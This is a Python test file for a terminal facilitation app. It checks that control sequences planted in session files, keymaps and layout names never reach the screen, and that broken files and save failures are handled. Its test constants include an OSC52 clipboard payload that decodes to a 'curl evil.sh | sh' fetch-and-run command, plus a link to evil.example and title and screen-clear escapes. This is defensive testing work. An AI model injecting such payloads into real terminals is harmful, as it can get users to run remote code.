"""Nothing reaches the terminal but what the app draws: the BYTES of each frame are checked,
with a hostile session file (as a colleague's hand-edited export would be), a hostile user
layout and a hostile keymap, and every edit form opened."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from textual._compositor import LayoutUpdate
from textual.pilot import Pilot

from facilitator.store.session_file import write_new_session
from facilitator.tui.app import FacilitatorApp
from tests.tui.pane_sessions import outcome_session
from tests.tui.screen_text import screen_text, wait_for_text, wait_until
from tests.tui.tui_sessions import FakeClock

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # clipboard: `curl evil.sh | sh`
OSC2 = "\x1b]2;pwned\x07"  # window title
OSC8 = "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J"
HOSTILE = f"{OSC52}{OSC2}{OSC8}{CLEAR}\ud800\x9b31m"
TEXT_KEYS = {"text", "title", "summary", "impact", "name", "role", "prompt", "what", "owner", "reason", "script"}
LIST_KEYS = {"whys", "notes", "ground_rules", "prompts"}

DRAWN = re.compile(r"\x1b\[[0-9;]*m|\x1b\[\d+;\d+H")
"""What a frame may hold: colours and styles (SGR), cursor moves. No OSC, no erase, no C1."""


def frame_bytes(app: FacilitatorApp) -> str:
    """The bytes the app would write to the terminal for a full repaint of the screen now."""
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    assert isinstance(update, LayoutUpdate)
    return update.render_segments(app.console)


def assert_only_drawing(app: FacilitatorApp, where: str) -> None:
    left = DRAWN.sub("", frame_bytes(app))
    bad = sorted(
        {c for c in left if (ord(c) < 32 and c not in "\n") or 0x7F <= ord(c) <= 0x9F}
        | set(re.findall("[\ud800-\udfff]", left))
    )
    assert not bad, f"{where}: control characters reached the terminal: {bad!r}"  # fmt: skip


def poison(value, key: str = ""):
    """Every user text in a session document, with HOSTILE appended."""
    if isinstance(value, dict):
        return {k: poison(v, k) for k, v in value.items()}
    if isinstance(value, list):
        if key in LIST_KEYS:
            return [item + HOSTILE if isinstance(item, str) else poison(item) for item in value]
        return [poison(item) for item in value]
    if isinstance(value, str) and key in TEXT_KEYS and value:
        return value + HOSTILE
    return value


def write_hostile_session(folder: Path) -> Path:
    path = folder / "hostile.json"
    write_new_session(path, outcome_session())
    tables = json.loads(path.read_text(encoding="utf-8"))
    tables["session"]["1"] = poison(tables["session"]["1"])
    path.write_text(json.dumps(tables), encoding="utf-8")  # bytes as a hand edit would leave them
    return path


def write_hostile_keymap(folder: Path) -> Path:
    path = folder / "keymap.toml"
    path.write_text('[keys]\n"export" = "ctrl+e\\u001b]2;pwned\\u0007"\n"x\\u001b[2J" = "f9"\n', encoding="utf-8")
    return path


def write_hostile_layouts(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Two user layouts with markup and control codes in their names, where the app looks for them."""
    folder = folder / "layouts"
    folder.mkdir()
    box = '[[timeboxes]]\nkind = "framing"\ntitle = "Open \\u001b]2;pwned\\u0007 [/] up"\nminutes = 5\n'
    (folder / "ops.toml").write_text('name = "ops [/] weekly"\n' + box, encoding="utf-8")
    (folder / "ops2.toml").write_text('name = "ops [weekly]\\u001b]52;c;eA==\\u0007"\n' + box, encoding="utf-8")
    monkeypatch.setattr("facilitator.store.layouts.user_layouts_dir", lambda: folder)
    return folder


@pytest.fixture
def hostile_session(tmp_path: Path) -> Path:
    return write_hostile_session(tmp_path)


@pytest.fixture
def hostile_layouts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return write_hostile_layouts(tmp_path, monkeypatch)


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def hostile_app(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Pilot[int]]:
    """One app for every pane's forms (starting it is most of the cost): a hostile session file,
    hostile user layouts and a hostile keymap, at 120x40, back on its review screen between tests."""
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as monkeypatch:
        monkeypatch.setenv("FACILITATOR_CONFIG", str(folder / "config"))
        monkeypatch.setenv("FACILITATOR_CACHE", str(folder / "cache"))
        write_hostile_layouts(folder, monkeypatch)
        app = FacilitatorApp(
            session_path=write_hostile_session(folder), now=FakeClock(), keymap_file=write_hostile_keymap(folder)
        )
        async with app.run_test(size=(120, 40), notifications=True) as pilot:
            await app.session_loaded.wait()  # (the tests' own pilot_once_open is per test, this app is not)
            await pilot.pause()
            assert app.review is not None, screen_text(app)
            assert_only_drawing(app, "the first screen")
            yield pilot
            assert app.is_running


FORMS = [
    ("1", ["e", "t", "a", "r"]),
    ("2", ["a", "e", "c", "n"]),
    ("3", ["a", "e", "y", "Y"]),
    ("4", ["a", "e"]),
    ("5", ["t"]),
    ("6", ["f"]),
    ("7", ["w", "t", "l"]),
    ("2", ["p", "g", "ctrl+e"]),
]
"""Each pane's keys, each of which opens a dialog."""


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize(("pane", "keys"), FORMS, ids=[f"{pane}-{'-'.join(keys)}" for pane, keys in FORMS])
async def test_no_control_code_reaches_the_terminal_with_each_edit_form_open(
    hostile_app: Pilot[int], pane: str, keys: list[str]
) -> None:
    pilot, app = hostile_app, hostile_app.app
    assert isinstance(app, FacilitatorApp)
    await pilot.press(pane)
    await pilot.pause()
    assert_only_drawing(app, f"pane {pane}")
    for key in keys:
        await pilot.press(key)
        await wait_until(pilot, lambda: len(app.screen_stack) > 2, f"the dialog key {key} opens on pane {pane}")
        await pilot.pause()
        assert_only_drawing(app, f"pane {pane}, key {key}")
        while len(app.screen_stack) > 2:
            await pilot.press("escape")
            await pilot.pause()
    assert app.is_running
    stored = app.active_review.session
    assert all("\x1b" not in e.text and "\ud800" not in e.text for e in stored.timeline)


async def test_hostile_layout_names_show_as_written_in_the_new_session_form(
    tmp_path: Path, hostile_layouts: Path, clock
) -> None:
    app = FacilitatorApp(sessions_folder=tmp_path / "sessions", now=clock)
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        await pilot.press("n")
        await pilot.pause()
        assert app.is_running and len(app.screen_stack) == 3  # the form opened: no MarkupError
        await pilot.press("tab", "tab", "space")  # open the layout select (Enter would save the form)
        await pilot.pause()
        shown = screen_text(app)
        assert "ops [/] weekly (5 min)" in shown and "ops [weekly] (5 min)" in shown
        assert_only_drawing(app, "layout select")


async def test_a_broken_file_is_one_line_in_the_picker_and_the_rest_still_show(tmp_path: Path, clock) -> None:
    write_new_session(tmp_path / "good.json", outcome_session())
    (tmp_path / "huge.json").write_text('{"session": {"1": {"title": ' + "9" * 5000 + "}}}", encoding="utf-8")
    (tmp_path / "deep.json").write_text('{"session": {"1": ' + "[" * 100_000 + "]" * 100_000 + "}}")
    app = FacilitatorApp(sessions_folder=tmp_path, now=clock)
    async with asyncio.timeout(60):
        async with app.run_test(size=(120, 30)) as pilot:
            await wait_until(pilot, lambda: "Reading sessions" not in screen_text(app), "the folder read")
            shown = screen_text(app)
            assert "Checkout latency" in shown
            assert "huge.json  (cannot open:" in shown and "deep.json  (cannot open:" in shown


@pytest.mark.parametrize(
    "mutate",
    [
        lambda s: s["clock"].update(current=99),
        lambda s: s.update(started_at="0001-01-01T00:00:00+14:00"),
        lambda s: s.update(error_budget_spent=float("inf")),
    ],
    ids=["clock-current-99", "date-0001+14", "budget-infinity"],
)
async def test_the_loading_screen_shows_any_error_with_the_file_name(tmp_path: Path, clock, mutate) -> None:
    path = tmp_path / "broken.json"
    write_new_session(path, outcome_session())
    tables = json.loads(path.read_text(encoding="utf-8"))
    mutate(tables["session"]["1"])
    path.write_text(json.dumps(tables), encoding="utf-8")
    app = FacilitatorApp(session_path=path, now=clock)
    async with asyncio.timeout(60):
        async with app.run_test(size=(100, 30)) as pilot:
            await pilot.pause()
            shown = screen_text(app)
            assert "This session could not be opened." in shown and "broken.json" in shown


async def test_any_save_failure_shows_the_banner_and_ctrl_q_asks_instead_of_a_traceback(
    hostile_session: Path, clock, monkeypatch
) -> None:
    from facilitator.store.lock import lock_path

    def unencodable(data) -> str:
        return "\ud800"

    monkeypatch.setattr("facilitator.store.storage.encode", unencodable)
    app = FacilitatorApp(session_path=hostile_session, now=clock)
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await pilot.press("2", "d")
        shown = await wait_for_text(pilot, "NOT SAVED")  # the autosave runs 0.5 s after an edit
        assert "NOT SAVED: the text could not be written out" in shown
        await pilot.press("ctrl+q")
        await pilot.pause()
        assert app.is_running and "Quit anyway and lose unsaved edits?" in screen_text(app)
        monkeypatch.undo()
        await pilot.press("escape")
        await pilot.press("ctrl+s")
        await app.workers.wait_for_complete()
        await pilot.pause()
        assert "NOT SAVED" not in screen_text(app)
        await pilot.press("ctrl+q")
    assert app.return_code == 0 and not lock_path(hostile_session).exists()
